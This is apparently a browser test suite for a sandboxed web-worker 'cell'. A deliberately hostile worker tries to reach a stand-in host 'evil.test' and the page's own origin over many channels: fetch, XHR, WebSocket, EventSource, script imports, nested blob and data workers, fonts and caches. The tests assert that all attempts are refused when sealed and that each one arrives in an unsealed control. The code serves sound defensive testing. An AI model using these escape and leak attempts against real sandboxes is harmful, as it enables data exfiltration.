// A deliberately hostile worker in the sealed cell: every way out that a worker has is tried, from the worker itself
// and from workers nested in it. Each attempt is first shown to work where nothing is sealed.
import assert from "node:assert/strict";
import { describe, test } from "node:test";
import { BROWSERS, launch, partsPage, startSink } from "./harness.js";

/**
 * Runs in the worker: tries everything at both targets, answers what came of each.
 * @typedef {{ where: string, channel: string, target?: string, outcome: unknown }} Outcome
 * @param {Record<string, string>} targets @param {string} where
 */
function hostile(targets, where) {
  const WAIT_MS = 2500;
  /** @typedef {(value?: unknown) => void} Settle */
  /** @param {(yes: Settle, no: Settle) => void} start */
  const within = (start) => new Promise((settle) => {
    setTimeout(() => settle("silent"), WAIT_MS);
    const no = (/** @type {any} */ error) => settle(`refused: ${error && (error.name || error.type) || error}`);
    try { start(() => settle("reached"), no); } catch (error) { no(error); }
  });
  /** @param {() => Promise<unknown>} start */
  const promised = (start) => within((yes, no) => start().then(yes, no));
  /** @type {Record<string, (url: string) => Promise<unknown>>} */
  const channels = {
    "fetch": (url) => promised(() => fetch(url)),
    "fetch-no-cors": (url) => promised(() => fetch(url, { mode: "no-cors" })),
    "fetch-keepalive": (url) => promised(() => fetch(url, { method: "POST", body: "x", mode: "no-cors", keepalive: true })),
    "xhr": (url) => within((yes, no) => { const x = new XMLHttpRequest(); x.onload = yes; x.onerror = no; x.open("GET", url); x.send(); }),
    "websocket": (url) => within((yes, no) => { const s = new WebSocket(url.replace("http", "ws")); s.onopen = yes; s.onerror = no; }),
    "eventsource": (url) => within((yes, no) => { const s = new EventSource(url); s.onopen = () => { s.close(); yes(); }; s.onerror = (e) => { s.close(); no(e); }; }),
    "importscripts": (url) => within((yes) => { self.importScripts(`${url}.js`); yes(); }),
    "import": (url) => promised(() => import(`${url}.js`)),
    "worker": (url) => within((yes, no) => { const w = new Worker(`${url}.js`); w.onerror = no; w.onmessage = yes; }),
    "fontface": (url) => promised(() => new FontFace("x", `url(${url})`).load()),
    "caches": (url) => promised(async () => (await caches.open("x")).add(url)),
  };
  const run = async () => {
    /** @type {Outcome[]} */
    const seen = [];
    await Promise.all(Object.entries(channels).flatMap(([channel, attempt]) => Object.entries(targets).map(async ([target, base]) => {
      seen.push({ where, channel, target, outcome: await attempt(`${base}/${where}-${channel}`) });
    })));
    return seen;
  };
  /** @type {(address: string, place: string) => Promise<Outcome[]>} */
  const nest = (address, place) => new Promise((settle) => {
    setTimeout(() => settle([{ where: place, channel: "start", outcome: "silent" }]), 2 * WAIT_MS);
    const refused = (/** @type {any} */ error) => settle([{ where: place, channel: "start", outcome: `refused: ${error.name || error.type}` }]);
    try {
      const worker = new Worker(address);
      worker.onerror = refused;
      worker.onmessage = ({ data }) => settle(data);
      worker.postMessage({});
    } catch (error) { refused(error); }
  });
  self.onmessage = async ({ data: { port } }) => {
    self.onmessage = null;
    if (where !== "first") { self.postMessage(await run()); return; }
    port.postMessage({ v: 1, id: 0, ok: "started" });
    const text = (/** @type {string} */ place) => `(${hostile})(${JSON.stringify(targets)}, ${JSON.stringify(place)})`;
    const all = await run();
    // Firefox leaves a few nested workers unstarted, without an event: silence is tried again.
    /** @type {Outcome[]} */
    let nested = [];
    for (let tries = 0; tries < 5 && nested.length <= 1; tries += 1) nested = await nest(URL.createObjectURL(new Blob([text("nested")])), "nested");
    all.push(...nested);
    all.push(...await nest(`data:text/javascript,${encodeURIComponent(text("data"))}`, "data"));
    port.postMessage({ all, beacon: typeof navigator.sendBeacon, rtc: typeof RTCPeerConnection, origin: self.origin });
  };
}

/** How long a page may leave its hostile worker unanswered; it answers within 1 s where it answers. */
const ANSWER_MS = 20_000;
const TRIES = 5;

const CHANNELS = ["fetch", "fetch-no-cors", "fetch-keepalive", "xhr", "websocket", "eventsource", "importscripts", "import", "worker", "fontface", "caches"];

/** A host that is not ours; every name but the loopback's leads to the sink. */
const ELSEWHERE = "evil.test";
/** One that the control only connects to, ahead of a request that never comes. */
const AHEAD = "ahead.test";
const CONTROL = `<!doctype html><title>no policy</title><link rel="preconnect" href="http://${AHEAD}">`;

for (const kind of BROWSERS) {
  describe(`a hostile worker in ${kind}`, () => {
    /**
     * A browser, a server and a sink of its own for one test.
     * @typedef {{ driven: import("./harness.js").Driven, sink: Awaited<ReturnType<typeof startSink>>, text: string, arrived: () => string[] }} Ground
     * `text` is the worker's; `arrived()` says `first-fetch` and its like, as they came to either server
     * @param {(ground: Ground) => Promise<void>} work
     */
    async function onOwnGround(work) {
      const sink = await startSink();
      const driven = await launch({ browser: kind, netLog: kind === "chromium", sinkPort: sink.port, extra: { ...partsPage(), "/control.html": CONTROL } });
      try {
        const targets = { sink: `http://${ELSEWHERE}:${sink.port}/leak`, own: `${driven.origin}/leak` };
        const arrived = () => [...sink.paths(), ...driven.server.hits].flatMap((line) => line.match(/\/leak\/([a-z-]+)/)?.[1] ?? []);
        await work({ driven, sink, arrived, text: `(${hostile})(${JSON.stringify(targets)}, "first")` });
      } finally {
        await driven.remove();
        sink.close();
      }
    }

    /**
     * Firefox deadlocks some workers inside `new Worker`: they stop in the middle of it, timers and all. Such a page is
     * given up and another one opened; what arrived from any of them counts.
     * @template T
     * @param {Ground} ground @param {string} address @param {(page: import("./harness.js").Page) => Promise<T | null>} ask
     * @returns {Promise<T>}
     */
    async function heardFrom({ driven }, address, ask) {
      for (let tries = 1; tries <= TRIES; tries += 1) {
        const page = await driven.openPage(address);
        const heard = await ask(page);
        await page.close();
        if (heard) return heard;
      }
      throw new Error(`the worker of ${address} answered in none of ${TRIES} pages`);
    }

    for (const airlock of [false, true]) test(`sealed, ${airlock ? "after the airlock closed" : "by the cell alone"}: everything is refused and nothing arrives`, () => onOwnGround(async (ground) => {
      const heard = await heardFrom(ground, "/parts.html", (page) => page.evaluate(async (hostileText, closed, patience) => {
        const assets = closed ? (await window.parts.boot()).assets : await window.parts.loadAssets(window.parts.FILES);
        const cell = await window.parts.openCell({ ...assets, engine: { ...assets.engine, text: hostileText } }, () => {});
        /** @type {Promise<{ all: Outcome[], beacon: string, rtc: string, origin: string } | null>} */
        const answer = new Promise((settle) => {
          setTimeout(() => settle(null), patience);
          cell.port.onmessage = ({ data }) => settle(data);
        });
        return answer;
      }, ground.text, airlock, ANSWER_MS));
      for (const where of ["first", "nested"]) {
        for (const channel of CHANNELS) {
          const outcomes = heard.all.filter((one) => one.where === where && one.channel === channel);
          assert.equal(outcomes.length, 2, `${where} ${channel} was not tried at both targets`);
          for (const { outcome } of outcomes) assert.notEqual(outcome, "reached", `${where} ${channel}`);
        }
      }
      assert.equal(heard.beacon, "undefined");
      assert.equal(heard.rtc, "undefined");
      assert.equal(heard.origin, "null");
      await ground.driven.close();
      assert.deepEqual(ground.arrived(), []);
      if (kind === "firefox") {
        assert.deepEqual(ground.sink.foreign(), [], "something connected to the sink");
        return;
      }
      // Chromium opens connections of its own and may close them before they carry anything; its log tells whose they
      // were: it would name the host also for a connection that was opened ahead of a request, or a name looked up.
      assert.deepEqual(ground.sink.foreign().filter((text) => text !== ""), [], "something reached the sink");
      const log = ground.driven.netLog();
      assert.ok(log.includes("/parts.html"), "the network log does not even hold the page");
      assert.ok(!log.includes(ELSEWHERE), "the browser was led to another host");
    }));

    test("control: where nothing is sealed, each attempt arrives", () => onOwnGround(async (ground) => {
      await heardFrom(ground, "/control.html", (page) => page.evaluate((hostileText, patience) => new Promise((settle) => {
        setTimeout(() => settle(false), patience);
        const { port1, port2 } = new MessageChannel();
        port1.onmessage = ({ data }) => { if (data.all) settle(true); };
        new Worker(URL.createObjectURL(new Blob([hostileText]))).postMessage({ port: port2 }, [port2]);
      }), ground.text, ANSWER_MS));
      const reached = new Set(ground.arrived());
      const missing = ["first", "nested"].flatMap((where) => CHANNELS.map((channel) => `${where}-${channel}`)).filter((name) => !reached.has(name));
      assert.deepEqual(missing, []);
      await ground.driven.close();
      if (kind === "firefox") return;
      for (const host of [ELSEWHERE, AHEAD]) assert.ok(ground.driven.netLog().includes(host), `the network log does not hold ${host}`);
    }));
  });
}
